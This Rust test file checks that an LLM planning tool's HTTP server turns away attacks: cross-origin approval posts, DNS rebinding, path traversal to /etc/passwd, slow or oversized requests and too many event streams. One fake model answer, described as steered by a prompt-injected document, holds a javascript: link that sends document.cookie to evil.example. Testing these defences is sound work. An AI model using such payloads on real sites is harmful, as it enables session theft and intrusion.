//! `plan serve` under attack, through the binary: each attack the server defends against
//! (see the README's HTTP API section), and the refusal it gets.

use std::io::{Read, Write};
use std::net::TcpStream;
use std::time::{Duration, Instant};

use plan_llm::testing::{FakeOpenAi, FakeReply};
use serde_json::{Value, json};

use crate::serve::{Server, TOKEN, authed, client, json_of, start, start_run, wait_status};
use crate::support::{DIAMOND, Sandbox, agent_server, model_flags};

/// The `host:port` of a server.
fn authority(s: &Server) -> &str {
    s.base.trim_start_matches("http://")
}

/// A run of `s` parked for approval (its event stream stays open).
fn parked_run(s: &Server) -> String {
    let c = client();
    let id = start_run(
        &c,
        s,
        json!({"goal": "Compare two things", "strategy": "dag", "approve": true}),
    );
    wait_status(&c, s, &id, "awaiting_approval");
    id
}

/// A page on another port of the same host, with the cookie of a visit, posts an
/// approval as `text/plain` (no CORS preflight): refused, and the run keeps waiting. So
/// is a form post, a cross-site `Sec-Fetch-Site`, and a `null` origin; the server's own
/// pages get through.
#[test]
fn cross_origin_state_changes_are_refused() {
    let sb = Sandbox::new();
    let fake = agent_server(DIAMOND);
    let s = start(&sb, &model_flags(&fake), &["--token", TOKEN]);
    let c = client();
    let id = parked_run(&s);
    let r = c.get(format!("{}/?token={TOKEN}", s.base)).send().unwrap();
    let cookie = r.headers()["set-cookie"]
        .to_str()
        .unwrap()
        .split(';')
        .next()
        .unwrap()
        .to_owned();
    let approve = format!("{}/api/runs/{id}/approve", s.base);
    let attempt = |headers: &[(&str, &str)], body: &str| {
        let mut req = c.post(&approve).header("cookie", &cookie);
        for (k, v) in headers {
            req = req.header(*k, *v);
        }
        json_of(req.body(body.to_owned()).send().unwrap())
    };
    let plan = r#"{"plan": {"goal": "g", "steps": [{"id": "x", "description": "Exfiltrate"}]}}"#;
    for (headers, status) in [
        (
            &[
                ("content-type", "text/plain"),
                ("origin", "http://127.0.0.1:5555"),
            ][..],
            403,
        ),
        (
            &[
                ("content-type", "application/x-www-form-urlencoded"),
                ("origin", "http://evil.example"),
                ("sec-fetch-site", "cross-site"),
            ],
            403,
        ),
        (&[("sec-fetch-site", "same-site")], 403),
        (
            &[("content-type", "application/json"), ("origin", "null")],
            403,
        ),
        // Same origin, but not JSON: refused too.
        (&[("content-type", "text/plain")], 415),
    ] {
        let (code, v) = attempt(headers, plan);
        assert_eq!(code, status, "{headers:?}: {v}");
    }
    wait_status(&c, &s, &id, "awaiting_approval");
    assert_eq!(fake.count("Exfiltrate"), 0);

    // The server's own page: same origin, JSON.
    let own = format!("http://{}", authority(&s));
    let (code, v) = attempt(
        &[
            ("content-type", "application/json"),
            ("origin", &own),
            ("sec-fetch-site", "same-origin"),
        ],
        "{}",
    );
    assert_eq!(code, 202, "{v}");
    wait_status(&c, &s, &id, "succeeded");
}

/// A web page reaching the tokenless loopback server through DNS rebinding sends its own
/// name as `Host`: 421, not the run list. Names given with --allow-host are answered.
#[test]
fn unknown_host_names_are_refused() {
    let sb = Sandbox::new();
    let fake = agent_server(DIAMOND);
    let s = start(&sb, &model_flags(&fake), &["--allow-host", "plan.internal"]);
    let c = client();
    let list = format!("{}/api/runs", s.base);
    let port = authority(&s).rsplit(':').next().unwrap().to_owned();
    for (host, status) in [
        (format!("rebind.attacker.example:{port}"), 421),
        ("rebind.attacker.example".to_owned(), 421),
        (format!("127.0.0.1.attacker.example:{port}"), 421),
        (format!("plan.internal:{port}"), 200),
        (format!("localhost:{port}"), 200),
        (format!("[::1]:{port}"), 200),
    ] {
        let (code, v) = json_of(c.get(&list).header("host", &host).send().unwrap());
        assert_eq!(code, status, "{host}: {v}");
        if status == 421 {
            assert!(v["error"].as_str().unwrap().contains("--allow-host"), "{v}");
        }
    }
}

/// Every response carries a strict Content-Security-Policy and the other security
/// headers, and the pages have no inline script for the policy to need.
#[test]
fn pages_carry_a_strict_content_security_policy() {
    let sb = Sandbox::new();
    let fake = agent_server(DIAMOND);
    let s = start(&sb, &model_flags(&fake), &["--token", TOKEN]);
    let c = client();
    let id = start_run(
        &c,
        &s,
        json!({"goal": "Compare two things", "strategy": "dag"}),
    );
    wait_status(&c, &s, &id, "succeeded");
    for path in [
        "/".to_owned(),
        format!("/runs/{id}"),
        "/api/runs".to_owned(),
        "/assets/run.js".to_owned(),
        "/api/runs/nope".to_owned(),
    ] {
        let r = authed(&c, "GET", &format!("{}{path}", s.base))
            .send()
            .unwrap();
        let h = r.headers();
        let csp = h["content-security-policy"].to_str().unwrap();
        for part in [
            "default-src 'none'",
            "script-src 'self'",
            "frame-ancestors 'none'",
            "base-uri 'none'",
        ] {
            assert!(csp.contains(part), "{path}: {csp}");
        }
        assert!(!csp.contains("unsafe-inline"), "{path}: {csp}");
        assert_eq!(h["x-content-type-options"], "nosniff", "{path}");
        assert_eq!(h["referrer-policy"], "no-referrer", "{path}");
        assert_eq!(h["x-frame-options"], "DENY", "{path}");
    }
    for path in ["/".to_owned(), format!("/runs/{id}")] {
        let page = authed(&c, "GET", &format!("{}{path}", s.base))
            .send()
            .unwrap()
            .text()
            .unwrap();
        for script in page.split("<script").skip(1) {
            let tag = script.split('>').next().unwrap();
            assert!(
                tag.contains("src=\"/assets/") || tag.contains("type=\"application/json\""),
                "{path}: an inline script: <script{tag}>"
            );
        }
        assert!(!page.contains("<style"), "{path}: inline style");
    }
}

/// A model answer (steerable by a prompt-injected document) with `javascript:` links:
/// the page shows their text, never a live link.
#[test]
fn script_links_in_an_answer_are_shown_as_text() {
    let sb = Sandbox::new();
    let fake = FakeOpenAi::start_detached();
    fake.on(
        "You decide how to meet a goal",
        FakeReply::text(r#"{"answer": null, "plan": {"goal": "g", "steps": [{"id": "a", "description": "Do it"}]}}"#),
    )
    .on(
        "You are a planner",
        FakeReply::text(r#"{"goal": "g", "steps": [{"id": "a", "description": "Do it"}]}"#),
    )
    .on(
        "You write the final answer",
        FakeReply::text(
            "Read [the report](javascript:fetch('//evil.example/?c='+document.cookie)) \
             or <JaVaScRiPt:alert(1)> or [the docs](https://example.com/docs).",
        ),
    )
    .otherwise(FakeReply::text("done"));
    let s = start(&sb, &model_flags(&fake), &["--token", TOKEN]);
    let c = client();
    let id = start_run(&c, &s, json!({"goal": "g", "strategy": "dag"}));
    wait_status(&c, &s, &id, "succeeded");
    for path in [format!("/runs/{id}"), format!("/runs/{id}/summary")] {
        let html = authed(&c, "GET", &format!("{}{path}", s.base))
            .send()
            .unwrap()
            .text()
            .unwrap();
        assert!(html.contains("the report"), "{html}");
        assert!(
            !html.to_ascii_lowercase().contains("href=\"javascript"),
            "{path}: {html}"
        );
        assert!(
            html.contains(r#"<a href="https://example.com/docs">the docs</a>"#),
            "{html}"
        );
    }
}

/// Run ids in paths are plain: traversal and other characters get 400 before any lookup.
#[test]
fn path_tricks_in_run_ids_are_refused() {
    let sb = Sandbox::new();
    let fake = agent_server(DIAMOND);
    let s = start(&sb, &model_flags(&fake), &[]);
    let c = client();
    for path in [
        "/api/runs/..%2F..%2Fetc%2Fpasswd",
        "/api/runs/a.b/events",
        "/runs/%00",
        "/api/runs/x%20y/plan",
    ] {
        let (code, v) = json_of(c.get(format!("{}{path}", s.base)).send().unwrap());
        assert_eq!(code, 400, "{path}: {v}");
        assert!(v["error"].as_str().unwrap().contains("not a run id"), "{v}");
    }
}

/// Raw HTTP on the server's socket: what it answered (status line and all).
fn raw(s: &Server, request: &[u8], pause: Option<Duration>) -> String {
    let mut stream = TcpStream::connect(authority(s)).unwrap();
    stream
        .set_read_timeout(Some(Duration::from_secs(60)))
        .unwrap();
    stream.write_all(request).unwrap();
    if let Some(pause) = pause {
        std::thread::sleep(pause);
    }
    let mut out = Vec::new();
    let _ = stream.read_to_end(&mut out);
    String::from_utf8_lossy(&out).into_owned()
}

/// A body that never finishes arriving gets 408 after the body timeout (10 s), and a
/// header block of a megabyte is refused.
#[test]
fn slow_bodies_and_oversized_headers_are_cut_off() {
    let sb = Sandbox::new();
    let fake = agent_server(DIAMOND);
    let s = start(&sb, &model_flags(&fake), &[]);
    let host = authority(&s).to_owned();
    let started = Instant::now();
    let answer = raw(
        &s,
        format!(
            "POST /api/runs HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n{{\"goal\": "
        )
        .as_bytes(),
        None,
    );
    assert!(answer.starts_with("HTTP/1.1 408"), "{answer}");
    assert!(started.elapsed() >= Duration::from_secs(9), "{answer}");

    let huge = "x".repeat(1024 * 1024);
    let answer = raw(
        &s,
        format!("GET /api/runs HTTP/1.1\r\nHost: {host}\r\nX-Big: {huge}\r\n\r\n").as_bytes(),
        None,
    );
    assert!(
        answer.is_empty() || answer.starts_with("HTTP/1.1 431"),
        "{}",
        &answer[..answer.len().min(200)]
    );
    // The server still answers.
    let (code, _) = json_of(client().get(format!("{}/api/runs", s.base)).send().unwrap());
    assert_eq!(code, 200);
}

/// One client cannot hold more than 32 event streams open: the 33rd gets 429.
#[test]
fn event_streams_are_bounded_per_client() {
    let sb = Sandbox::new();
    let fake = agent_server(DIAMOND);
    let s = start(&sb, &model_flags(&fake), &[]);
    let id = parked_run(&s);
    let c = client();
    let url = format!("{}/api/runs/{id}/events", s.base);
    let open: Vec<_> = (0..32)
        .map(|i| {
            let r = c.get(&url).send().unwrap();
            assert_eq!(r.status().as_u16(), 200, "stream {i}");
            r
        })
        .collect();
    let (code, v) = json_of(c.get(&url).send().unwrap());
    assert_eq!(code, 429, "{v}");
    assert!(
        v["error"].as_str().unwrap().contains("32 event streams"),
        "{v}"
    );
    drop(open);
}

/// SIGTERM: the server stops accepting, closes the event streams, cancels the run it
/// executes (saved, resumable) and exits 0 within its grace period; `plan resume`
/// finishes the run.
#[test]
fn sigterm_saves_the_runs_and_exits() {
    let sb = Sandbox::new();
    let fake = agent_server(DIAMOND);
    fake.latency(Duration::from_millis(1500));
    let model = model_flags(&fake);
    let mut s = start(&sb, &model, &["--token", TOKEN]);
    let c = client();
    let id = start_run(
        &c,
        &s,
        json!({"goal": "Compare two things", "strategy": "dag"}),
    );
    wait_status(&c, &s, &id, "running");
    // A stream open on the running run ends when the server stops.
    let stream = std::thread::spawn({
        let url = format!("{}/api/runs/{id}/events", s.base);
        move || {
            let mut body = String::new();
            let _ = authed(&client(), "GET", &url)
                .send()
                .unwrap()
                .read_to_string(&mut body);
            body
        }
    });
    std::thread::sleep(Duration::from_millis(300));
    let pid = s.pid().to_string();
    let stopped = Instant::now();
    assert!(
        std::process::Command::new("kill")
            .args(["-TERM", &pid])
            .status()
            .unwrap()
            .success()
    );
    let status = s.wait();
    assert_eq!(status.code(), Some(0));
    assert!(
        stopped.elapsed() < Duration::from_secs(20),
        "{:?}",
        stopped.elapsed()
    );
    let events = stream.join().unwrap();
    assert!(events.contains("run_started"), "{events}");

    let out = crate::support::output(&mut sb.plan(["show", &id, "--json"]));
    let shown: Value = serde_json::from_str(&crate::support::stdout(&out)).unwrap();
    assert_eq!(shown["status"], "cancelled", "{shown}");
    let mut args = vec!["resume".to_owned(), id.clone(), "--json".to_owned()];
    args.extend(model);
    let out = crate::support::output(&mut sb.plan(args));
    crate::support::expect_code(&out, 0);
    let resumed: Value = serde_json::from_str(&crate::support::stdout(&out)).unwrap();
    assert_eq!(resumed["status"], "succeeded", "{resumed}");
}
